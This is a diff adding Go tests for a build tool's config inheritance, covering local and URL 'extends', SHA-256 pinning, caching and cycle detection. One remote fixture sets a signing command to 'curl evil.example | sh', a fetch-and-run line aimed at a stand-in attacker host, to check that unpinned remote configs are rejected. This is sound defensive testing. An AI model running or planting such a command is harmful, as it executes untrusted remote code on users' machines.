@@ -0,0 +1,195 @@
+package build
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const baseConfig = `
+[default]
+zig-version = "0.15.2"
+flags = ["-trimpath"]
+strip = true
+
+[[target]]
+name = "linux-amd64"
+os = "linux"
+arch = "amd64"
+`
+
+func TestLoadConfig_ExtendsFile(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "base.toml"), []byte(baseConfig), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, "gox.toml")
+	content := `
+extends = "base.toml"
+
+[default]
+flags = ["-tags=prod"]
+
+[[target]]
+name = "windows-amd64"
+os = "windows"
+arch = "amd64"
+`
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig() error = %v", err)
+	}
+	if cfg.Default.ZigVersion != "0.15.2" {
+		t.Errorf("ZigVersion = %q, want 0.15.2", cfg.Default.ZigVersion)
+	}
+	if !cfg.Default.Strip {
+		t.Error("Strip = false, want inherited true")
+	}
+	if len(cfg.Default.Flags) != 2 || cfg.Default.Flags[0] != "-trimpath" {
+		t.Errorf("Flags = %v, want [-trimpath -tags=prod]", cfg.Default.Flags)
+	}
+	if len(cfg.Targets) != 2 || cfg.Targets[0].Name != "linux-amd64" {
+		t.Errorf("Targets = %+v", cfg.Targets)
+	}
+}
+
+func TestLoadConfig_ExtendsURL(t *testing.T) {
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	t.Setenv("HOME", t.TempDir())
+
+	hits := 0
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hits++
+		w.Write([]byte(baseConfig))
+	}))
+	defer srv.Close()
+
+	sum := sha256.Sum256([]byte(baseConfig))
+	digest := hex.EncodeToString(sum[:])
+
+	write := func(t *testing.T, extends string) string {
+		t.Helper()
+		path := filepath.Join(t.TempDir(), "gox.toml")
+		if err := os.WriteFile(path, []byte(`extends = "`+extends+`"`), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+
+	t.Run("pinned digest uses cache", func(t *testing.T) {
+		path := write(t, srv.URL+"/gox.toml#sha256:"+digest)
+		for range 2 {
+			cfg, err := LoadConfig(path)
+			if err != nil {
+				t.Fatalf("LoadConfig() error = %v", err)
+			}
+			if cfg.Default.ZigVersion != "0.15.2" {
+				t.Errorf("ZigVersion = %q, want 0.15.2", cfg.Default.ZigVersion)
+			}
+		}
+		if hits != 1 {
+			t.Errorf("server hits = %d, want 1 (second load from cache)", hits)
+		}
+	})
+
+	t.Run("digest mismatch", func(t *testing.T) {
+		path := write(t, srv.URL+"/other.toml#sha256:"+digest[:63]+"0")
+		if _, err := LoadConfig(path); err == nil {
+			t.Error("LoadConfig() should fail on digest mismatch")
+		}
+	})
+}
+
+func TestLoadConfig_ExtendsRemote(t *testing.T) {
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	t.Setenv("HOME", t.TempDir())
+
+	files := map[string]string{
+		"/team/gox.toml":    "extends = \"common.toml\"\n[default]\nstrip = true\n",
+		"/team/common.toml": "[default]\nzig-version = \"0.15.2\"\n",
+		"/local.toml":       "extends = \"/etc/gox.toml\"\n",
+		"/sign.toml":        "[default.sign]\ncommand = \"curl evil.example | sh\"\n",
+		"/target-sign.toml": "[[target]]\nname = \"x\"\nos = \"linux\"\narch = \"amd64\"\n[target.sign]\ncommand = \"sh\"\n",
+		"/plugins.toml":     "[default]\nplugins = [\"notify\"]\n",
+		"/tools.toml":       "[tools]\ngo = \"/tmp/go\"\n",
+		"/plugin-path.toml": "[default]\nplugins = [\"./scripts/gox-upload\"]\n",
+		"/icon.toml":        "[windows]\nicon = \"app.ico\"\n",
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		data, ok := files[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		w.Write([]byte(data))
+	}))
+	defer srv.Close()
+	pin := func(name string) string {
+		sum := sha256.Sum256([]byte(files[name]))
+		return name + "#sha256:" + hex.EncodeToString(sum[:])
+	}
+
+	// A local file the remote config must not reach.
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "common.toml"), []byte("[default]\nzig-version = \"local\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name    string
+		extends string
+		wantErr string
+	}{
+		{"nested relative extends resolved against URL", "/team/gox.toml", ""},
+		{"local path resolved against URL", "/local.toml", "404"},
+		{"unpinned sign.command", "/sign.toml", "sign.command"},
+		{"unpinned target sign.command", "/target-sign.toml", "sign.command"},
+		{"unpinned plugins", "/plugins.toml", "plugins"},
+		{"unpinned tools", "/tools.toml", "[tools]"},
+		{"pinned sign.command", pin("/sign.toml"), ""},
+		{"pinned plugins", pin("/plugins.toml"), ""},
+		{"plugin path", pin("/plugin-path.toml"), "local path"},
+		{"icon", pin("/icon.toml"), "local files"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(dir, "gox.toml")
+			if err := os.WriteFile(path, []byte(`extends = "`+srv.URL+tt.extends+`"`), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			cfg, err := LoadConfig(path)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Errorf("LoadConfig() error = %v, want %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("LoadConfig() error = %v", err)
+			}
+			if tt.extends == "/team/gox.toml" && cfg.Default.ZigVersion != "0.15.2" {
+				t.Errorf("ZigVersion = %q, want 0.15.2 from the remote common.toml", cfg.Default.ZigVersion)
+			}
+		})
+	}
+}
+
+func TestConfig_ExtendsCycle(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "gox.toml")
+	if err := os.WriteFile(path, []byte(`extends = "gox.toml"`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadConfig(path); err == nil {
+		t.Error("LoadConfig() should fail on recursive extends")
+	}
+}